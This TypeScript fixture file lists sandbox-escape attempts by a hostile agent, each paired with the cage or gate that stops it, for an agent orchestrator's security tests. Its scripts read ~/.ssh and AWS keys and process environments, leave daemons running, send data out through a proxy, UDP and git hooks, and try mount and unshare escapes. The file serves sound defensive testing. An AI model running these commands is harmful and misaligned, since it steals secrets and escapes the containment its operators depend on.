/**
 * What a hostile agent tries, each with what stops it. The table in docs/security.md is made of this list, and each attempt is made
 * by attack.test.ts, so that nothing stands there that was not tried.
 */

/** Where things are in the world of an attack; a script finds them in its environment under these names. */
export interface Place {
  HOME: string
  /** The user's checkout, whose `.git` the worktree belongs to. */
  CHECKOUT: string
  /** Another run's worktree. */
  OTHER: string
  /** The throw-away directory of another step. */
  STEP: string
  /** A directory beside all of it. */
  OUTSIDE: string
  /** Ports of this machine's loopback, and a socket, where somebody listens. */
  PORT: string
  DATAGRAMS: string
  SOCKET: string
  /** A process of ours with a secret in its environment. */
  VICTIM: string
}

export interface Attempt {
  what: string
  stoppedBy: string
  /** Run by sh in the worktree. */
  script: string
}

/**
 * Of an attempt that fails nobody knows whether it was any good. So each is made twice: where it is stopped, and where nothing stops
 * it, where it has to succeed.
 */
export interface CagedAttempt extends Attempt {
  /** What it says inside: that it was made there too, and what it met with. */
  met: RegExp
  /**
   * Where the same script succeeds: on another such machine without a cage, or in a cage whose list names the address that it
   * wants.
   */
  control: 'uncaged' | 'listed'
}

const node = (code: string): string => `"$NODE" -e '${code}'`
/** Asks the proxy with the name and password of this call, or with another's name; "HOW" is what is done with the answer. */
const viaProxy = (options: string): string =>
  `const p=new URL(process.env.HTTP_PROXY),auth=(n)=>"Basic "+Buffer.from(n+":"+decodeURIComponent(p.password)).toString("base64"),mine=decodeURIComponent(p.username),to={host:p.hostname,port:p.port},http=require("http"),port=process.env.PORT;${options}`
const NAMESPACE = 'cage: a process namespace of its own'
const HIDDEN = 'cage: hidden from all that run inside'
const READ_ONLY = 'cage: read-only outside of worktree and throw-away directory'
const [NOT_THERE, NOT_WRITTEN] = [/No such file|nonexistent/i, /read-only file system/i]

/** Every secret of the world holds this word: an attempt that prints it has won. */
export const LOOT = 'crown-jewels'
/** What is written where nothing may be written has this in its name or text, and the number of its attempt: `$MARK`. */
export const markOf = (attempt: number): string => `left-behind-${process.pid}-${attempt}.`

export const CAGED: readonly CagedAttempt[] = [
  {
    what: 'read the environment of every process in `/proc`',
    stoppedBy: NAMESPACE,
    script: 'cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep -a -e crown -e ^MARK',
    met: /MARK=/,
    control: 'uncaged',
  },
  {
    what: 'end a process of ours',
    stoppedBy: NAMESPACE,
    script: 'kill -9 "$VICTIM" && echo crown-jewels',
    met: /No such process/,
    control: 'uncaged',
  },
  {
    what: 'leave a daemon behind in a session of its own',
    stoppedBy: `${NAMESPACE}, which ends with the call`,
    script: `setsid ${node('console.log("it runs");setTimeout(()=>{},600000)')} "$MARK" > daemon 2>&1 & until grep runs daemon; do sleep 0.05; done`,
    met: /it runs/,
    control: 'uncaged',
  },
  {
    what: 'read keys below `$HOME`',
    stoppedBy: HIDDEN,
    script:
      'for f in ~/.ssh/id_ed25519 ~/.npmrc ~/.netrc ~/.aws/credentials ~/.bashrc; do cat $f; wc -c $f; done',
    met: /(?:[^]*(?:No such file|Permission denied)){5}/,
    control: 'uncaged',
  },
  {
    what: "read the address with a token in the checkout's `.git/config`",
    stoppedBy: 'cage: tokens and passwords in it are masked',
    script: 'cat "$CHECKOUT/.git/config"; git config --list; git remote -v; git rev-parse HEAD',
    met: /origin\s[^]*^[0-9a-f]{40}$/m,
    control: 'uncaged',
  },
  {
    what: "read another run's worktree",
    stoppedBy: HIDDEN,
    script: 'cat "$OTHER"/*',
    met: NOT_THERE,
    control: 'uncaged',
  },
  {
    what: "read another step's prompt and nonce",
    stoppedBy: HIDDEN,
    script: 'cat "$STEP"/*',
    met: NOT_THERE,
    control: 'uncaged',
  },
  {
    what: "forge another step's artifact",
    stoppedBy: `${HIDDEN}; gate: the nonce`,
    script: 'echo "$MARK" > "$STEP/artifact.json"; ls "$STEP/system.md"',
    met: NOT_THERE,
    control: 'uncaged',
  },
  {
    what: 'leave something for the next step in a shared place',
    stoppedBy: 'cage: none is shared',
    script:
      'for d in /tmp /var/tmp /dev/shm /tmp/claude ~/.npm/_logs; do mkdir -p $d; echo x > "$d/$MARK"; done',
    met: NOT_WRITTEN,
    control: 'uncaged',
  },
  {
    what: 'write to `$HOME`: a shell start-up file, an SSH key',
    stoppedBy: READ_ONLY,
    script: 'echo "$MARK" >> ~/.profile; mkdir -p ~/.ssh; echo x > ~/.ssh/"$MARK"; echo x > ~/"$MARK"',
    met: NOT_WRITTEN,
    control: 'uncaged',
  },
  {
    what: 'write beside the worktree with `../`',
    stoppedBy: READ_ONLY,
    script: 'echo x > "../$MARK"; echo x > "$OUTSIDE/$MARK"',
    met: NOT_WRITTEN,
    control: 'uncaged',
  },
  {
    what: 'write through a symbolic link that leads out',
    stoppedBy: READ_ONLY,
    script: 'ln -s "$OUTSIDE" out && echo x > "out/$MARK"; rm -f out',
    met: NOT_WRITTEN,
    control: 'uncaged',
  },
  {
    what: "write a hook into the checkout's `.git/hooks`",
    stoppedBy: READ_ONLY,
    script: 'echo x > "$CHECKOUT/.git/hooks/$MARK"; git config core.hooksPath "$MARK"',
    met: NOT_WRITTEN,
    control: 'uncaged',
  },
  {
    what: 'move a ref of the ledger',
    stoppedBy: READ_ONLY,
    script: 'git update-ref "refs/orchestrate/run/$MARK/a" HEAD',
    met: /unable to create directory/,
    control: 'uncaged',
  },
  {
    what: "turn the worktree's `.git` to a repository of its own",
    stoppedBy: 'cage: read-only `.git`',
    script: 'cp .git kept; rm -f .git; echo "gitdir: $PWD/$MARK" > .git; mv .git gone; cat kept',
    met: /busy|read-only/i,
    control: 'uncaged',
  },
  {
    what: 'reach a port of this machine',
    stoppedBy: 'cage: a network of its own',
    script: node(
      'require("net").connect(+process.env.PORT,"127.0.0.1").on("data",(d)=>console.log(String(d))).on("error",(e)=>console.log(e.code))',
    ),
    met: /ECONNREFUSED/,
    control: 'uncaged',
  },
  {
    what: 'send what it knows out by datagrams, as a name server is asked',
    stoppedBy: 'cage: a network of its own',
    script: node(
      'const s=require("dgram").createSocket("udp4");s.on("message",(m)=>{console.log(String(m));s.close()}).on("error",(e)=>{console.log(e.code);s.close()});s.connect(+process.env.DATAGRAMS,"127.0.0.1",()=>s.send("x"))',
    ),
    met: /ECONNREFUSED/,
    control: 'uncaged',
  },
  {
    what: 'use the proxy as the agent of another call would',
    stoppedBy: "cage: the proxy's list, one a call, named by 24 random bytes",
    script: node(
      viaProxy(
        'http.get({...to,path:"http://127.0.0.1:"+port+"/",headers:{"proxy-authorization":auth(process.env.AS_ITSELF?mine:"srt.eA==")}},(r)=>{console.log("it answers "+r.statusCode);r.pipe(process.stdout)}).on("error",(e)=>console.log(e.code))',
      ),
    ),
    met: /it answers 40[37]/,
    control: 'listed',
  },
  {
    what: 'send what it knows to a host that nobody listed',
    stoppedBy: "cage: the proxy's list",
    script: node(
      viaProxy(
        'for(const path of ["example.com:443","127.0.0.1:"+port])http.request({...to,method:"CONNECT",path,headers:{"proxy-authorization":auth(mine)}}).on("connect",(r,s)=>{console.log(path.split(":")[0]+" "+r.statusCode);s.on("data",(d)=>console.log(String(d))).on("error",()=>{});if(r.statusCode!==200)s.destroy()}).on("error",(e)=>console.log(e.code)).end()',
      ),
    ),
    met: /(?=[^]*example\.com 403)(?=[^]*127\.0\.0\.1 403)/,
    control: 'listed',
  },
  {
    what: 'talk to a daemon by its socket',
    stoppedBy: 'cage: no sockets of the local kind (seccomp)',
    script: node(
      'require("net").connect(process.env.SOCKET).on("data",(d)=>console.log(String(d))).on("error",(e)=>console.log(e.code))',
    ),
    met: /EPERM|EACCES/,
    control: 'uncaged',
  },
  {
    what: 'mount over what is read-only, or make namespaces to do so',
    stoppedBy: 'cage: no capabilities, no calls that mount (seccomp)',
    script:
      'mount -t tmpfs none "$OUTSIDE/mount" && umount "$OUTSIDE/mount" && echo crown-jewels; unshare -Urm mount -t tmpfs none "$OUTSIDE/mount" && echo crown-jewels; bwrap --dev-bind / / --tmpfs "$OUTSIDE/mount" true && echo crown-jewels; umount -l "$HOME/.ssh"',
    met: /mount[^]*unshare[^]*bwrap/,
    control: 'uncaged',
  },
]

/** What reaches the worktree is for the gates. */
export interface Gated extends Attempt {
  /** What the phase stops with. */
  reason: string
  /** Much the same, and allowed: all of them together pass, which shows that a gate stops what it says and nothing else. */
  near: string
}

export const GATED: readonly Gated[] = [
  {
    what: 'change a workflow below `.github/`',
    stoppedBy: 'gate: protected paths',
    script: 'mkdir -p .github/workflows; echo x > .github/workflows/ci.yml',
    reason: 'protected-path',
    near: 'mkdir -p github/workflows; echo x > github/workflows/ci.yml',
  },
  {
    what: 'commit a symbolic link that leads out of the repository',
    stoppedBy: 'gate: links that lead out',
    script: 'ln -s /etc/passwd passwd',
    reason: 'symlink-out',
    near: 'ln -s src/alpha.txt alpha-too',
  },
  {
    what: 'write `.gitmodules`',
    stoppedBy: 'gate: protected paths',
    script: 'printf "[submodule \\"x\\"]\\npath = x\\nurl = /\\n" > .gitmodules',
    reason: 'protected-path',
    near: 'echo x > gitmodules',
  },
  {
    what: 'leave a repository in the repository, as a submodule',
    stoppedBy: 'gate: repositories inside the repository',
    script:
      'git init -q inner && cd inner && echo x > a && git add a && git -c user.name=A -c user.email=a@example.com commit -qm x && cd ..',
    reason: 'submodule',
    near: 'mkdir inner; echo x > inner/a',
  },
  {
    what: 'write more files than any step needs',
    stoppedBy: 'gate: at most 2,000 files a step',
    script: 'mkdir many; cd many; seq "${FILES:-2100}" | xargs touch; cd ..',
    reason: 'too-many-files',
    near: 'mkdir few; cd few; seq 100 | xargs touch; cd ..',
  },
  {
    what: 'leave more than any step needs',
    stoppedBy: 'gate: at most 20 MB of changes a step',
    script: 'head -c "${BYTES:-21000000}" /dev/zero > large',
    reason: 'too-large',
    near: 'head -c 19000000 /dev/zero > small',
  },
  {
    what: 'answer with the nonce of another step',
    stoppedBy: 'gate: the nonce',
    script: 'ORCHESTRATE_NONCE=0123456789abcdef; echo x > src/alpha.txt',
    reason: 'artifact-stale-nonce',
    near: 'echo y > src/alpha.txt',
  },
]

export interface Checkout {
  what: string
  stoppedBy: string
  /** Files of the checkout, executable; OUTSIDE stands for a directory that nothing may be written to. */
  files: Record<string, string>
  /** What the user's own configuration says. */
  config: Record<string, string>
  /** What comes of it: a hook that runs, held; a snapshot that fails; nothing at all. */
  comes: 'hook' | 'refusal' | 'nothing'
}

const LEAVES = '#!/bin/sh\necho x > "OUTSIDE/left-behind"\n'

/** Each is given to plain git first (`git add`, `git status`, `git diff`, `git commit`), which has to run the program. */
export const CHECKOUT: readonly Checkout[] = [
  {
    what: "run a project's hook that an agent rewrote (husky: `core.hooksPath` leads into the worktree) with our rights",
    stoppedBy: 'cage: hooks run inside it, and what they stage is taken over',
    files: {
      '.husky/pre-commit':
        '#!/bin/sh\necho x > "OUTSIDE/left-behind" || cat ~/.ssh/* > staged.txt\ngit add -A\nexit 0\n',
    },
    config: { 'core.hooksPath': '.husky' },
    comes: 'hook',
  },
  {
    what: 'run a program by `.gitattributes`: a filter that the user configured and an agent rewrote',
    stoppedBy: 'git: filters that we do not know fail in our calls, and say how to trust them',
    files: { '.gitattributes': '*.txt filter=project\n', 'clean.sh': `${LEAVES}cat\n` },
    config: { 'filter.project.clean': './clean.sh' },
    comes: 'refusal',
  },
  {
    what: "run it by a configuration of the checkout's own, which the user's includes",
    stoppedBy: 'git: filters that we do not know fail in our calls, and say how to trust them',
    files: {
      '.gitattributes': '*.txt filter=evil\n',
      'gitconfig.inc': '[filter "evil"]\n\tclean = ./clean.sh\n',
      'clean.sh': `${LEAVES}cat\n`,
    },
    config: { 'include.path': '../gitconfig.inc' },
    comes: 'refusal',
  },
  {
    what: 'run a program by a diff driver or a textconv of `.gitattributes`',
    stoppedBy: 'git: neither is used in our calls',
    files: {
      '.gitattributes': '*.txt diff=project\n*.md diff=other\n',
      'show.sh': `${LEAVES}cat "$1"\n`,
      'a.md': 'x\n',
    },
    config: { 'diff.project.command': './show.sh', 'diff.other.textconv': './show.sh' },
    comes: 'nothing',
  },
  {
    what: 'run a program by a file watcher (`core.fsmonitor` leads into the worktree)',
    stoppedBy: 'git: hooks and watchers are switched off in our calls',
    files: { 'fsmonitor.sh': LEAVES },
    config: { 'core.fsmonitor': './fsmonitor.sh' },
    comes: 'nothing',
  },
]

/** What programs of agents do with a checkout's files is tried with the real ones, and what they do without our flags. */
export const BY_PROGRAMS: readonly { what: string; stoppedBy: string; control: string }[] = [
  {
    what: 'make the agent run hooks, MCP servers, settings or plugins of the checkout',
    stoppedBy: 'how the agent is started; tried with the real programs ([agents.md](agents.md))',
    control: 'with `claude` as people start it',
  },
]
